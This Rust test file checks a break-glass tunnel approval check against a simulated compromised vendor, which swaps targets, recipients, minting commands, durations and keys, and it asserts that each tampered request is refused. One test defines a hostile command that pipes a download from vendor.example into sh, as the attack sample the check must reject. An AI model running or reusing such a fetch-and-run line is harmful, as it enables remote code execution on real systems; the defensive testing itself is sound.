//! The break-glass admission check attacked the way a compromised vendor or control
//! plane would: with the customer's real signature on one tunnel and a `TunnelOpen` (or
//! an edited document) that asks for another resource, target, minting command, length,
//! connection count or recipient. Each test asserts the exact refusal.

use std::path::PathBuf;
use std::process::Command;

use ssh_key::{Algorithm, LineEnding, PrivateKey};
use tether_ops::approval::{self, ApplianceRef, Approval, ExecSpec, Expected};
use tether_ops::approvers::Approvers;
use tether_ops::policy::Policy;
use tether_ops::tunnel::{
    self, CredentialCommand, TunnelApproval, TunnelExpected, TunnelRequest, TunnelVerified,
};
use tether_ops::{sig, CommandFailure, Phase, APPROVAL_NAMESPACE, MANIFEST_NAMESPACE};
use tether_proto::CommandKind;

const NOW: i64 = 1_790_000_000_000;
const MIN: i64 = 60_000;
/// The operator's one-time recipient (`tether tunnel request` makes it).
const OPERATOR: &str = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";
/// A recipient whose identity the vendor holds.
const VENDOR: &str = "age1zvkyg2lqzraa2lnjvqej32nkuu0ues2s82hzrye869xeexvn73equnujwj";

const POLICY: &str = r#"
[limits]
max_break_glass_duration = "1h"
max_connections = 4

[phases.operate]
enabled = true
approval = "required"
run_as = "tether-ops"
[phases.deploy]
enabled = true
approval = "none"
run_as = "tether-deploy"
[phases.install]
enabled = false
approval = "required"
run_as = "tether-install"

[[resource]]
name = "orders-db"
target = "10.0.3.7:5432"
[resource.privilege.readonly]
mint = { argv = ["/opt/acme/bin/mint-db-user", "--ro", "--ttl", "{duration_s}"], deadline_ms = 20000 }
revoke = { argv = ["/opt/acme/bin/drop-db-user", "{credential_id}"], deadline_ms = 20000 }
[resource.privilege.admin]
mint = { argv = ["/opt/acme/bin/mint-db-user", "--admin", "--ttl", "{duration_s}"], deadline_ms = 20000 }
revoke = { argv = ["/opt/acme/bin/drop-db-user", "{credential_id}"], deadline_ms = 20000 }

[[resource]]
name = "billing-db"
target = "10.0.3.8:5432"
[resource.privilege.readonly]
mint = { argv = ["/opt/acme/bin/mint-db-user", "--ro", "--ttl", "{duration_s}"], deadline_ms = 20000 }
revoke = { argv = ["/opt/acme/bin/drop-db-user", "{credential_id}"], deadline_ms = 20000 }

[[resource]]
name = "bastion"
target = "[fd00::22]:22"
[resource.privilege.plain]

[[resource]]
name = "vault"
target = "vault.acme.internal:8200"
phase = "install"
[resource.privilege.readonly]

[[resource]]
name = "wiki"
target = "wiki.acme.internal:443"
phase = "deploy"
[resource.privilege.view]
"#;

fn policy() -> Policy {
    Policy::parse(POLICY.as_bytes()).unwrap()
}

/// The same policy with `from` replaced by `to`.
fn policy_with(from: &str, to: &str) -> Policy {
    assert!(POLICY.contains(from), "{from}");
    Policy::parse(POLICY.replacen(from, to, 1).as_bytes()).unwrap()
}

struct Customer {
    key: PrivateKey,
    dir: tempfile::TempDir,
}

impl Customer {
    fn new() -> Customer {
        let mut key = PrivateKey::random(&mut ssh_key::rand_core::OsRng, Algorithm::Ed25519)
            .expect("random key");
        key.set_comment("alice@acme");
        Customer {
            key,
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn approvers(&self, not_before: &str, not_after: &str, scopes: &str) -> Approvers {
        Approvers::parse(&format!(
            "[[key]]\nid = \"acme-ops\"\npublic_key = \"{}\"\nnot_before = \"{not_before}\"\nnot_after = \"{not_after}\"\n{scopes}",
            self.key.public_key().to_openssh().unwrap()
        ))
        .unwrap()
    }

    fn pinned(&self) -> Approvers {
        self.approvers("2026-01-01T00:00:00Z", "2027-12-31T00:00:00Z", "")
    }

    fn sign(&self, namespace: &str, bytes: &[u8]) -> Vec<u8> {
        sig::sign(&self.key, namespace, bytes).unwrap().into_bytes()
    }

    /// `ssh-keygen -Y sign -n NAMESPACE` over `bytes`, with the same key as a file.
    fn ssh_keygen_sign(&self, namespace: &str, bytes: &[u8]) -> Vec<u8> {
        use std::os::unix::fs::PermissionsExt;
        let key = self.dir.path().join("id_ed25519");
        if !key.exists() {
            std::fs::write(&key, self.key.to_openssh(LineEnding::LF).unwrap()).unwrap();
            std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
        }
        let file = self.dir.path().join("tunnel.json");
        std::fs::write(&file, bytes).unwrap();
        let sig_file = PathBuf::from(format!("{}.sig", file.display()));
        let _ = std::fs::remove_file(&sig_file);
        let out = Command::new("ssh-keygen")
            .args(["-Y", "sign", "-n", namespace, "-f"])
            .arg(&key)
            .arg(&file)
            .output()
            .expect("ssh-keygen");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::read(sig_file).unwrap()
    }
}

fn appliance(id: &str) -> ApplianceRef {
    ApplianceRef {
        id: id.into(),
        trust_domain: "acme.example".into(),
        key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJnoO0PB0+0sgEd8BzTU0m5nWrpyQsbHUVpuXOfOQh/x"
            .into(),
    }
}

/// What the operator asked for and the customer signed: 30 minutes of `orders-db` read
/// only, two connections, five minutes idle, the credential sealed to the operator.
fn request() -> TunnelRequest<'static> {
    TunnelRequest {
        resource: "orders-db",
        privilege: "readonly",
        duration_s: 1800,
        max_connections: 2,
        idle_timeout_s: 300,
        recipient: OPERATOR,
    }
}

/// The document `tether tunnel request` plans for `req` under `policy`, as the customer
/// signs it.
fn planned(policy: &Policy, req: &TunnelRequest<'_>) -> TunnelApproval {
    let a = appliance("app-0001");
    let expected = TunnelExpected::resolve(&a, policy, req, NOW).unwrap();
    TunnelApproval::plan(
        &expected,
        "req_7",
        "INC-4411 orders stuck",
        "alice@acme",
        NOW - MIN,
        NOW + 10 * MIN,
    )
}

/// The customer's signed document for [`request`].
fn signed(c: &Customer) -> (Vec<u8>, Vec<u8>) {
    let doc = planned(&policy(), &request()).to_bytes();
    let sig = c.sign(APPROVAL_NAMESPACE, &doc);
    (doc, sig)
}

/// `tunnel::check` as the agent of `app-0001` runs it, reduced to the refusal code.
fn check(
    doc: &[u8],
    sig: &[u8],
    req: &TunnelRequest<'_>,
    policy: &Policy,
    approvers: &Approvers,
    now: i64,
) -> Result<TunnelVerified, CommandFailure> {
    check_as(
        &appliance("app-0001"),
        doc,
        sig,
        req,
        policy,
        approvers,
        now,
    )
}

fn check_as(
    a: &ApplianceRef,
    doc: &[u8],
    sig: &[u8],
    req: &TunnelRequest<'_>,
    policy: &Policy,
    approvers: &Approvers,
    now: i64,
) -> Result<TunnelVerified, CommandFailure> {
    tunnel::check(doc, sig, req, a, policy, approvers, now).map_err(|r| {
        eprintln!("refused: {r}");
        r.code
    })
}

/// A document edited by the vendor: `f` applied to what the customer signed.
fn edited(doc: &[u8], f: impl FnOnce(&mut TunnelApproval)) -> Vec<u8> {
    let mut a = TunnelApproval::parse(doc).unwrap();
    f(&mut a);
    a.to_bytes()
}

fn cmd(argv: &[&str]) -> CredentialCommand {
    CredentialCommand {
        argv: argv.iter().map(|s| s.to_string()).collect(),
        deadline_ms: 20_000,
    }
}

#[test]
fn a_tunnel_signed_by_ssh_keygen_or_by_us_verifies_with_the_customers_target_and_commands() {
    let c = Customer::new();
    let doc = planned(&policy(), &request()).to_bytes();
    for sig in [
        c.ssh_keygen_sign(APPROVAL_NAMESPACE, &doc),
        c.sign(APPROVAL_NAMESPACE, &doc),
    ] {
        let v = check(&doc, &sig, &request(), &policy(), &c.pinned(), NOW).unwrap();
        assert_eq!(v.approval.sha256, tether_ops::sha256_hex(&doc));
        assert_eq!(v.approval.key_id, "acme-ops");
        assert_eq!(v.approval.approver, "alice@acme");
        assert_eq!(v.approval.not_after_ms, NOW + 10 * MIN);
        assert_eq!(v.break_glass.target, "10.0.3.7:5432");
        assert_eq!(v.break_glass.recipient, OPERATOR);
        assert_eq!(v.break_glass.network, "tether-tunnel");
        let cred = v.break_glass.credential.as_ref().unwrap();
        assert_eq!(
            cred.mint,
            Some(cmd(&[
                "/opt/acme/bin/mint-db-user",
                "--ro",
                "--ttl",
                "{duration_s}"
            ]))
        );
        assert_eq!(
            cred.revoke,
            Some(cmd(&["/opt/acme/bin/drop-db-user", "{credential_id}"]))
        );
        assert_eq!((v.phase, v.run_as.as_str()), (Phase::Operate, "tether-ops"));
        assert_eq!(v.duration, std::time::Duration::from_secs(1800));
        assert!(!v.capped);
    }
    // The document is what the design shows: break_glass, never exec.
    let text = String::from_utf8(doc).unwrap();
    assert!(text
        .contains(r#""break_glass":{"credential":{"mint":{"argv":["/opt/acme/bin/mint-db-user""#));
    assert!(text.contains(r#""network":"tether-tunnel","privilege":"readonly","recipient":"age1"#));
    assert!(!text.contains("\"exec\""));
}

#[test]
fn a_privilege_without_credential_commands_signs_a_null_credential_and_no_recipient() {
    let c = Customer::new();
    let req = TunnelRequest {
        resource: "bastion",
        privilege: "plain",
        recipient: "",
        ..request()
    };
    let doc = planned(&policy(), &req).to_bytes();
    let text = String::from_utf8(doc.clone()).unwrap();
    assert!(text.contains(r#""credential":null"#), "{text}");
    assert!(text.contains(r#""recipient":"""#), "{text}");
    let sig = c.sign(APPROVAL_NAMESPACE, &doc);
    let v = check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap();
    assert_eq!(v.break_glass.target, "[fd00::22]:22");
    assert_eq!(v.break_glass.credential, None);
    // A recipient where nothing is minted is a malformed request.
    let with_recipient = TunnelRequest {
        recipient: OPERATOR,
        ..req
    };
    assert_eq!(
        check(&doc, &sig, &with_recipient, &policy(), &c.pinned(), NOW).unwrap_err(),
        CommandFailure::Invalid
    );
}

#[test]
fn another_resource_or_privilege_than_signed_fails_and_undeclared_ones_are_denied() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    for req in [
        TunnelRequest {
            resource: "billing-db",
            ..request()
        },
        TunnelRequest {
            privilege: "admin",
            ..request()
        },
    ] {
        assert_eq!(
            check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid,
            "{req:?}"
        );
    }
    // Names the customer never declared: refused before any signature is looked at.
    for req in [
        TunnelRequest {
            resource: "payroll-db",
            ..request()
        },
        TunnelRequest {
            resource: "Orders-db",
            ..request()
        },
        TunnelRequest {
            privilege: "root",
            ..request()
        },
        TunnelRequest {
            resource: "bastion",
            privilege: "readonly",
            ..request()
        },
    ] {
        assert_eq!(
            check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::DeniedByPolicy,
            "{req:?}"
        );
    }
}

#[test]
fn the_target_is_the_customers_policy_never_the_vendors() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    // The vendor rewrites the target in the document it relays: the agent never reads it.
    // The signature verifies over the re-derived bytes, and the tunnel goes where the
    // customer's policy says.
    let rewritten = edited(&doc, |a| a.break_glass.target = "198.51.100.7:22".into());
    let v = check(&rewritten, &sig, &request(), &policy(), &c.pinned(), NOW).unwrap();
    assert_eq!(v.break_glass.target, "10.0.3.7:5432");
    assert_eq!(v.approval.sha256, tether_ops::sha256_hex(&doc));
    // The vendor's plan proposed its own target and the customer signed it: the
    // appliance re-derives the policy's target, so the signature fails.
    let lied = edited(&doc, |a| a.break_glass.target = "198.51.100.7:22".into());
    let lied_sig = c.sign(APPROVAL_NAMESPACE, &lied);
    assert_eq!(
        check(&lied, &lied_sig, &request(), &policy(), &c.pinned(), NOW).unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
    // The customer moved the resource after signing: the old approval no longer fits.
    let moved = policy_with("10.0.3.7:5432", "10.0.3.99:5432");
    assert_eq!(
        check(&doc, &sig, &request(), &moved, &c.pinned(), NOW).unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
}

#[test]
fn a_minting_command_the_vendor_swapped_in_fails() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    let evil = cmd(&["/bin/sh", "-c", "curl https://vendor.example/x | sh"]);
    // Signed with the vendor's mint (or revoke, or with none at all): the policy's
    // commands are re-derived, the signature fails.
    for swap in [
        |a: &mut TunnelApproval, e: &CredentialCommand| {
            a.break_glass.credential.as_mut().unwrap().mint = Some(e.clone())
        },
        |a: &mut TunnelApproval, e: &CredentialCommand| {
            a.break_glass.credential.as_mut().unwrap().revoke = Some(e.clone())
        },
        |a: &mut TunnelApproval, _: &CredentialCommand| {
            a.break_glass.credential.as_mut().unwrap().revoke = None
        },
        |a: &mut TunnelApproval, _: &CredentialCommand| {
            a.break_glass
                .credential
                .as_mut()
                .unwrap()
                .mint
                .as_mut()
                .unwrap()
                .deadline_ms = 600_000
        },
    ] {
        let swapped = edited(&doc, |a| swap(a, &evil));
        let swapped_sig = c.sign(APPROVAL_NAMESPACE, &swapped);
        assert_eq!(
            check(
                &swapped,
                &swapped_sig,
                &request(),
                &policy(),
                &c.pinned(),
                NOW
            )
            .unwrap_err(),
            CommandFailure::ApprovalInvalid
        );
    }
    // Swapped into the relayed document only: ignored, the policy's command runs.
    let relayed = edited(&doc, |a| {
        a.break_glass.credential.as_mut().unwrap().mint = Some(evil.clone())
    });
    let v = check(&relayed, &sig, &request(), &policy(), &c.pinned(), NOW).unwrap();
    assert_eq!(
        v.break_glass.credential.unwrap().mint.unwrap().argv[0],
        "/opt/acme/bin/mint-db-user"
    );
    // The customer changed the privilege's mint command after signing.
    let changed = policy_with("\"--ro\", \"--ttl\"", "\"--rw\", \"--ttl\"");
    assert_eq!(
        check(&doc, &sig, &request(), &changed, &c.pinned(), NOW).unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
}

#[test]
fn a_longer_session_more_connections_or_another_idle_timeout_than_signed_fails() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    for req in [
        TunnelRequest {
            duration_s: 3600,
            ..request()
        },
        TunnelRequest {
            duration_s: 900,
            ..request()
        },
        TunnelRequest {
            max_connections: 4,
            ..request()
        },
        TunnelRequest {
            idle_timeout_s: 1800,
            ..request()
        },
    ] {
        assert_eq!(
            check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid,
            "{req:?}"
        );
    }
}

#[test]
fn a_swapped_recipient_fails_so_the_credential_is_never_sealed_to_the_vendor() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    // TunnelOpen carries the vendor's own recipient; the relayed document too.
    let req = TunnelRequest {
        recipient: VENDOR,
        ..request()
    };
    let relayed = edited(&doc, |a| a.break_glass.recipient = VENDOR.into());
    for d in [&doc, &relayed] {
        assert_eq!(
            check(d, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid
        );
    }
    // No recipient where a credential is minted: a malformed request.
    let none = TunnelRequest {
        recipient: "",
        ..request()
    };
    assert_eq!(
        check(&doc, &sig, &none, &policy(), &c.pinned(), NOW).unwrap_err(),
        CommandFailure::Invalid
    );
}

#[test]
fn an_exec_approval_is_never_a_tunnel_approval_and_a_tunnel_approval_never_an_exec() {
    let c = Customer::new();
    let a = appliance("app-0001");
    let exec = ExecSpec {
        kind: CommandKind::Exec,
        argv: vec!["psql".into(), "-h".into(), "10.0.3.7".into()],
        env_allowlist: vec![],
        deadline_ms: 60_000,
        stdin_sha256: String::new(),
    };
    let expected = Expected {
        appliance: &a,
        phase: Phase::Operate,
        exec: &exec,
    };
    let exec_doc =
        Approval::plan(&expected, "req_7", "x", "alice@acme", NOW - MIN, NOW + MIN).to_bytes();
    let exec_sig = c.sign(APPROVAL_NAMESPACE, &exec_doc);
    // The exec approval verifies as what it is…
    approval::check(
        &exec_doc,
        &exec_sig,
        &expected,
        &c.pinned(),
        &policy().limits,
        NOW,
    )
    .unwrap();
    // …and never opens a tunnel.
    assert!(TunnelApproval::parse(&exec_doc).is_err());
    assert_eq!(
        check(
            &exec_doc,
            &exec_sig,
            &request(),
            &policy(),
            &c.pinned(),
            NOW
        )
        .unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
    // A tunnel approval never runs a command.
    let (doc, sig) = signed(&c);
    assert!(Approval::parse(&doc).is_err());
    assert_eq!(
        approval::check(&doc, &sig, &expected, &c.pinned(), &policy().limits, NOW)
            .unwrap_err()
            .code,
        CommandFailure::ApprovalInvalid
    );
    // A document carrying both, signed: neither kind parses it.
    let exec_json = {
        let t = String::from_utf8(exec_doc.clone()).unwrap();
        let at = t.find("\"exec\":").unwrap();
        let end = t[at..].find('}').unwrap() + at + 1;
        t[at..end].to_owned()
    };
    let both = String::from_utf8(doc.clone()).unwrap().replacen(
        "\"not_after_ms\"",
        &format!("{exec_json},\"not_after_ms\""),
        1,
    );
    let both_sig = c.sign(APPROVAL_NAMESPACE, both.as_bytes());
    assert!(Approval::parse(both.as_bytes()).is_err());
    assert_eq!(
        check(
            both.as_bytes(),
            &both_sig,
            &request(),
            &policy(),
            &c.pinned(),
            NOW
        )
        .unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
}

#[test]
fn a_tunnel_for_another_appliance_trust_domain_or_key_fails() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    let mut others = vec![appliance("app-0002")];
    let mut a = appliance("app-0001");
    a.trust_domain = "other.example".into();
    others.push(a);
    let mut a = appliance("app-0001");
    a.key =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM6Xf8t4Yt5oMdxvhCGSpVZK7iQ2z8eYvE+LvmXmtmQ1".into();
    others.push(a);
    for a in others {
        assert_eq!(
            check_as(&a, &doc, &sig, &request(), &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid,
            "{a:?}"
        );
    }
}

#[test]
fn activation_windows_are_the_appliances_clock_and_the_policys_limit() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    let (p, keys) = (policy(), c.pinned());
    // 60 s skew around [NOW - 1 min, NOW + 10 min].
    for now in [NOW - 2 * MIN - 1, NOW + 11 * MIN + 1] {
        assert_eq!(
            check(&doc, &sig, &request(), &p, &keys, now).unwrap_err(),
            CommandFailure::ApprovalExpired,
            "{now}"
        );
    }
    for now in [NOW - 2 * MIN, NOW + 11 * MIN] {
        check(&doc, &sig, &request(), &p, &keys, now).unwrap();
    }
    // A window longer than the policy's max_approval_validity (1 h).
    let long = edited(&doc, |a| a.not_after_ms = NOW + 2 * 60 * MIN);
    let long_sig = c.sign(APPROVAL_NAMESPACE, &long);
    assert_eq!(
        check(&long, &long_sig, &request(), &p, &keys, NOW).unwrap_err(),
        CommandFailure::ApprovalTooLong
    );
    // An inverted window.
    let inverted = edited(&doc, |a| a.not_after_ms = NOW - 2 * MIN);
    let inverted_sig = c.sign(APPROVAL_NAMESPACE, &inverted);
    assert_eq!(
        check(&inverted, &inverted_sig, &request(), &p, &keys, NOW).unwrap_err(),
        CommandFailure::ApprovalTooLong
    );
}

#[test]
fn keys_not_pinned_for_break_glass_now_or_signatures_for_another_purpose_fail() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    // The vendor's own key made a perfect signature.
    let vendor = Customer::new();
    let forged = vendor.sign(APPROVAL_NAMESPACE, &doc);
    // The customer's key outside its window, or pinned for commands only.
    let old = c.approvers("2025-01-01T00:00:00Z", "2025-12-31T00:00:00Z", "");
    let exec_only = c.approvers(
        "2026-01-01T00:00:00Z",
        "2027-12-31T00:00:00Z",
        "scopes = [\"exec\"]\n",
    );
    for (sig, keys) in [
        (&forged, &c.pinned()),
        (&sig, &old),
        (&sig, &exec_only),
        (&sig, &Approvers::default()),
    ] {
        assert_eq!(
            check(&doc, sig, &request(), &policy(), keys, NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid
        );
    }
    // Pinned for break glass only: fine.
    let bg_only = c.approvers(
        "2026-01-01T00:00:00Z",
        "2027-12-31T00:00:00Z",
        "scopes = [\"break_glass\"]\n",
    );
    check(&doc, &sig, &request(), &policy(), &bg_only, NOW).unwrap();
    // The same key in the manifest namespace (by ssh-keygen and by us).
    for manifest_sig in [
        c.ssh_keygen_sign(MANIFEST_NAMESPACE, &doc),
        c.sign(MANIFEST_NAMESPACE, &doc),
    ] {
        assert_eq!(
            check(&doc, &manifest_sig, &request(), &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid
        );
    }
    // Garbage.
    assert_eq!(
        check(
            &doc,
            b"not a signature",
            &request(),
            &policy(),
            &c.pinned(),
            NOW
        )
        .unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
}

#[test]
fn a_non_canonical_tunnel_approval_fails_even_with_a_signature_over_its_bytes() {
    let c = Customer::new();
    let (doc, _) = signed(&c);
    let text = String::from_utf8(doc).unwrap();
    let variants = [
        text.replacen(',', ", ", 1),
        format!("{text}\n"),
        text.replacen('{', "{\"approver\":\"mallory\",", 1),
        text.replacen(
            "\"break_glass\":{",
            "\"break_glass\":{\"target\":\"198.51.100.7:22\",",
            1,
        ),
        text.replacen('{', "{\"extra\":1,", 1),
        text.replacen("\"break_glass\":{", "\"break_glass\":{\"port\":22,", 1),
        text.replace("\"duration_s\":1800", "\"duration_s\":1800.0"),
        text.replace("\"max_connections\":2", "\"max_connections\":2e0"),
        text.replace("\"network\":\"tether-tunnel\"", "\"network\":\"tailscale\""),
        text.replace(",\"revoke\":{", ",\"revoke\" :{"),
    ];
    for v in variants {
        assert_ne!(v, text);
        let sig = c.sign(APPROVAL_NAMESPACE, v.as_bytes());
        assert_eq!(
            check(v.as_bytes(), &sig, &request(), &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid,
            "{v}"
        );
    }
    // Without a credential key at all (serde would read a missing option as null).
    let bastion = TunnelRequest {
        resource: "bastion",
        privilege: "plain",
        recipient: "",
        ..request()
    };
    let plain = String::from_utf8(planned(&policy(), &bastion).to_bytes()).unwrap();
    let missing = plain.replacen("\"credential\":null,", "", 1);
    assert_ne!(missing, plain);
    let sig = c.sign(APPROVAL_NAMESPACE, missing.as_bytes());
    assert_eq!(
        check(
            missing.as_bytes(),
            &sig,
            &bastion,
            &policy(),
            &c.pinned(),
            NOW
        )
        .unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
}

#[test]
fn the_policy_caps_the_session_whatever_the_approval_says() {
    let c = Customer::new();
    let req = TunnelRequest {
        duration_s: 4 * 3600,
        ..request()
    };
    let doc = planned(&policy(), &req).to_bytes();
    let sig = c.sign(APPROVAL_NAMESPACE, &doc);
    let v = check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap();
    assert_eq!(v.break_glass.duration_s, 4 * 3600, "what was signed");
    assert_eq!(
        v.duration,
        std::time::Duration::from_secs(3600),
        "what runs"
    );
    assert!(v.capped);
    // A tighter cap applies to the same approval.
    let tight = policy_with(
        "max_break_glass_duration = \"1h\"",
        "max_break_glass_duration = \"10m\"",
    );
    let v = check(&doc, &sig, &req, &tight, &c.pinned(), NOW).unwrap();
    assert_eq!(v.duration, std::time::Duration::from_secs(600));
}

#[test]
fn a_resource_whose_phase_is_closed_or_needs_no_approval_is_refused() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    // Declared in a disabled phase (install), or in one that needs no approvals
    // (deploy): refused before any signature is looked at.
    for req in [
        TunnelRequest {
            resource: "vault",
            privilege: "readonly",
            recipient: "",
            ..request()
        },
        TunnelRequest {
            resource: "wiki",
            privilege: "view",
            recipient: "",
            ..request()
        },
    ] {
        assert_eq!(
            check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::PhaseDisabled,
            "{req:?}"
        );
    }
    // The customer closed operate after signing (lockdown), or its window ended.
    let locked = policy_with(
        "[phases.operate]\nenabled = true",
        "[phases.operate]\nenabled = false",
    );
    let ended = policy_with(
        "run_as = \"tether-ops\"",
        "run_as = \"tether-ops\"\nenabled_until = \"2026-01-01T00:00:00Z\"",
    );
    let removed = policy_with(
        "[phases.operate]\nenabled = true\napproval = \"required\"\nrun_as = \"tether-ops\"\n",
        "",
    );
    for p in [locked, ended, removed] {
        assert_eq!(
            check(&doc, &sig, &request(), &p, &c.pinned(), NOW).unwrap_err(),
            CommandFailure::PhaseDisabled
        );
    }
    // The customer moved the resource to another (open) phase after signing: the phase
    // is re-derived, so the signature fails.
    let moved = Policy::parse(
        POLICY
            .replacen(
                "name = \"orders-db\"\ntarget = \"10.0.3.7:5432\"\n",
                "name = \"orders-db\"\ntarget = \"10.0.3.7:5432\"\nphase = \"install\"\n",
                1,
            )
            .replacen(
                "[phases.install]\nenabled = false",
                "[phases.install]\nenabled = true",
                1,
            )
            .as_bytes(),
    )
    .unwrap();
    assert_eq!(moved.resource("orders-db").unwrap().phase, Phase::Install);
    assert_eq!(
        check(&doc, &sig, &request(), &moved, &c.pinned(), NOW).unwrap_err(),
        CommandFailure::ApprovalInvalid
    );
}

#[test]
fn more_connections_than_the_policy_allows_are_denied_even_when_signed() {
    let c = Customer::new();
    // The customer signed 16 connections (under a looser policy elsewhere); this
    // appliance's policy allows 4.
    let loose = policy_with("max_connections = 4", "max_connections = 64");
    let req = TunnelRequest {
        max_connections: 16,
        ..request()
    };
    let doc = planned(&loose, &req).to_bytes();
    let sig = c.sign(APPROVAL_NAMESPACE, &doc);
    check(&doc, &sig, &req, &loose, &c.pinned(), NOW).unwrap();
    assert_eq!(
        check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
        CommandFailure::DeniedByPolicy
    );
    // At the ceiling: fine.
    let req = TunnelRequest {
        max_connections: 4,
        ..request()
    };
    let doc = planned(&policy(), &req).to_bytes();
    let sig = c.sign(APPROVAL_NAMESPACE, &doc);
    check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap();
}

#[test]
fn malformed_requests_and_documents_are_refused() {
    let c = Customer::new();
    let (doc, sig) = signed(&c);
    let a = appliance("app-0001");
    // TunnelOpen values no session can have: invalid, before any signature.
    for req in [
        TunnelRequest {
            duration_s: 0,
            ..request()
        },
        TunnelRequest {
            idle_timeout_s: 0,
            ..request()
        },
        TunnelRequest {
            idle_timeout_s: 1801,
            ..request()
        },
        TunnelRequest {
            max_connections: 0,
            ..request()
        },
        TunnelRequest {
            recipient: "age1 with spaces",
            ..request()
        },
    ] {
        assert_eq!(
            check(&doc, &sig, &req, &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::Invalid,
            "{req:?}"
        );
        assert_eq!(
            TunnelExpected::resolve(&a, &policy(), &req, NOW)
                .unwrap_err()
                .code,
            CommandFailure::Invalid
        );
    }
    // The same values in a signed document: it does not parse.
    for bad in [
        edited(&doc, |a| a.break_glass.duration_s = 0),
        edited(&doc, |a| a.break_glass.idle_timeout_s = 0),
        edited(&doc, |a| a.break_glass.idle_timeout_s = 1801),
        edited(&doc, |a| a.break_glass.max_connections = 0),
        edited(&doc, |a| a.break_glass.recipient = String::new()),
        edited(&doc, |a| a.break_glass.resource = "Orders".into()),
        edited(&doc, |a| a.break_glass.target = "10.0.3.7".into()),
        edited(&doc, |a| a.decision = "deny".into()),
        edited(&doc, |a| a.approval_id = "x".into()),
    ] {
        assert!(TunnelApproval::parse(&bad).is_err());
        let bad_sig = c.sign(APPROVAL_NAMESPACE, &bad);
        assert_eq!(
            check(&bad, &bad_sig, &request(), &policy(), &c.pinned(), NOW).unwrap_err(),
            CommandFailure::ApprovalInvalid
        );
    }
}

#[test]
fn a_plan_parses_back_and_re_derives_to_itself() {
    let a = appliance("app-0001");
    let p = policy();
    let expected = TunnelExpected::resolve(&a, &p, &request(), NOW).unwrap();
    let plan = TunnelApproval::plan(&expected, "req_7", "why", "customer", NOW, NOW + MIN);
    let parsed = TunnelApproval::parse(&plan.to_bytes()).unwrap();
    assert_eq!(parsed, plan);
    assert_eq!(parsed.derive(&expected), plan);
    assert_eq!(plan.approval_id.len(), 32);
    assert_ne!(
        plan.approval_id,
        TunnelApproval::plan(&expected, "req_7", "why", "customer", NOW, NOW + MIN).approval_id
    );
}
